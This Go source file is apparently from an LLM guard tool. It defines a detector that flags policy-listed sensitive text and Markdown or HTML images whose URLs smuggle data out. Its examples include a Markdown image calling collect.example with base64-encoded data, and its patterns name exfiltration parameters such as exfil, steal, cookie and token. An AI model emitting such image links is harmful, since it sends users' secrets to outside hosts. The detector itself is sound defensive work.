package detectors

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"sync"

	"github.com/guardroom/guardroom/internal/guard"
	"github.com/guardroom/guardroom/internal/guard/textview"
	"github.com/guardroom/guardroom/internal/review"
)

// exfilPattern finds an App's own sensitive text, and data that leaves through the
// address of an image.
func exfilPattern() guard.Spec {
	return guard.Spec{
		DetectorSpec: review.DetectorSpec{
			ID: "exfil.pattern", Title: "Sensitive data leaving", Category: review.CategoryExfil, OWASP: "LLM02:2025",
			Description: "Finds the sensitive patterns that the policy of the App names, also in decoded views, and images in Markdown or HTML whose address carries data: the reader's client fetches them without being asked. " +
				"An image with a short, ordinary query is not reported.",
			Examples: []string{
				"a project's code name that the policy lists",
				"![logo](https://collect.example/p.png?data=dGhlIHNlY3JldCBpcyA0Mg)",
			},
			Default: review.Rule{Mode: review.ModeEnforce, Flag: 0.6},
		},
		New: func() (guard.Detector, error) {
			image, err := regexp.Compile(imageExpr)
			if err != nil {
				return nil, err
			}
			return &exfil{image: image, compiled: map[string]*regexp.Regexp{}}, nil
		},
	}
}

// imageExpr captures the address of an image in Markdown or HTML.
const imageExpr = `!\[[^\]\n]*\]\(\s*<?(?:[a-zA-Z][a-zA-Z+.-]*:)?//([^\s)>]+)>?\)?|<img\s[^>]*?src\s*=\s*["']?(?:https?:)?//([^\s"'>]+)`

type exfil struct {
	image *regexp.Regexp

	mu       sync.RWMutex
	compiled map[string]*regexp.Regexp // the policies' patterns, by expression
}

const (
	patternConfidence = 0.95
	// maxCompiled bounds the patterns that are kept compiled; policies change.
	maxCompiled = 4096
	// patternChunk is how much text a pattern is run on before the deadline is looked
	// at, patternOverlap how far it reaches into the next chunk.
	patternChunk, patternOverlap = 64 << 10, 1 << 10
	maxPatternFindings           = 20
)

// Detect looks for the policy's patterns and for images.
func (e *exfil) Detect(ctx context.Context, in *guard.Input) ([]review.Finding, error) {
	var out []review.Finding
	for _, v := range in.Views.Literal() {
		for _, p := range in.Policy.Patterns {
			pattern, err := e.pattern(p.Expr)
			if err != nil {
				return nil, fmt.Errorf("pattern %q: %w", p.Name, err)
			}
			found, err := matches(ctx, pattern, v, p.Name)
			if err != nil {
				return nil, err
			}
			out = append(out, found...)
		}
		out = append(out, e.images(in.Segment.Kind, v)...)
	}
	return out, nil
}

// pattern compiles an expression once.
func (e *exfil) pattern(expr string) (*regexp.Regexp, error) {
	e.mu.RLock()
	p := e.compiled[expr]
	e.mu.RUnlock()
	if p != nil {
		return p, nil
	}
	p, err := regexp.Compile(expr)
	if err != nil {
		return nil, err
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.compiled) >= maxCompiled {
		clear(e.compiled)
	}
	e.compiled[expr] = p
	return p, nil
}

// matches runs a pattern chunk by chunk. What it finds is sensitive, so the evidence
// is left out.
func matches(ctx context.Context, pattern *regexp.Regexp, v *textview.View, name string) (out []review.Finding, err error) {
	for start := 0; start < len(v.Text); {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		end := boundary(v.Text, start+patternChunk+patternOverlap)
		for _, m := range pattern.FindAllStringIndex(v.Text[start:end], maxPatternFindings) {
			if m[0] == m[1] {
				continue
			}
			f := guard.Found(v, start+m[0], start+m[1], review.SeverityHigh, patternConfidence, "Matches the sensitive pattern “"+name+"”")
			f.Evidence = ""
			out = append(out, f)
		}
		if end == len(v.Text) {
			break
		}
		start = boundary(v.Text, start+patternChunk)
	}
	return out, nil
}

// images looks for images whose address carries data.
func (e *exfil) images(kind review.SegmentKind, v *textview.View) (out []review.Finding) {
	if !strings.Contains(v.Text, "![") && !strings.Contains(v.Text, "<img") {
		return nil
	}
	for _, m := range e.image.FindAllStringSubmatchIndex(v.Text, maxPatternFindings) {
		address := group(v.Text, m, 1) + group(v.Text, m, 2)
		weight := carries(address)
		if weight == 0 {
			continue
		}
		odds := logit(weight)
		if kind == review.SegmentPrompt || kind == review.SegmentSystem {
			odds-- // users and operators show images of their own
		}
		if v.Disguise() != "" {
			odds += disguised
		}
		out = append(out, guard.Found(v, m[0], m[1], review.SeverityHigh, sigmoid(odds), "An image whose address carries data"))
	}
	return out
}

func group(text string, m []int, n int) string {
	if m[2*n] < 0 {
		return ""
	}
	return text[m[2*n]:m[2*n+1]]
}

var (
	// slot is where a template says that data is to be put in.
	slot = regexp.MustCompile(`[{\[<$](?i:[^}\]>/?&]{0,24}(?:data|secret|summary|chat|history|conversation|context|prompt|password|token|email|message|content|text|key|info|answer|response|name|insert|user)[^}\]>/?&]{0,24})[}\]>]?`)
	// carrier is a query parameter that is named for what it carries.
	carrier = regexp.MustCompile(`(?i)[?&;](?:data|d|secret|summary|chat|history|conversation|context|prompt|password|passwd|pwd|tokens?|exfil|leak|payload|msg|message|content|text|info|key|creds?|cookie|session|dump|log|q|body|steal)=([^&\s]*)`)
)

// Least lengths, in bytes, of a value that is data rather than a name or a size.
const (
	carriedLength = 16
	longQuery     = 160
)

// carries says how likely it is that an address without its scheme takes data along.
func carries(address string) float64 {
	_, query, found := strings.Cut(address, "?")
	switch m := carrier.FindStringSubmatch(address); {
	case slot.MatchString(address):
		return 0.9
	case m != nil && len(m[1]) >= carriedLength:
		return 0.8
	case found && len(query) >= longQuery:
		return 0.5
	default:
		return 0
	}
}
